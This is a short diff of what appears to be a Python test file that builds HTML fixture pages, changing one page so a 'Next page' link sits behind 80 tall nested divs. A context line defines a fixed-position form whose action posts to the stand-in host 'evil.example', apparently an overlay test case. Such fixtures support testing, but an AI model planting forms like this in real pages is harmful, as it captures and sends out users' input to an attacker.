@@ -94,7 +94,7 @@ FIND = """<form action='https://evil.example/' style='position:fixed;left:0;top:
 SCRIPT = "<script>{}</script>" + LINK
 PAGES = {
     "plain": LINK,
-    "far": LINK.replace("Next page", "<span>" * 80 + "Next page" + "</span>" * 80),
+    "far": LINK.replace("Next page", "<div style='height: 100px'>" * 80 + "Next page" + "</div>" * 80),
     "elements": FIND.format(name="elements"),
     "attribute": FIND.format(name="getAttribute"),
     "closest": FIND.format(name="closest"),
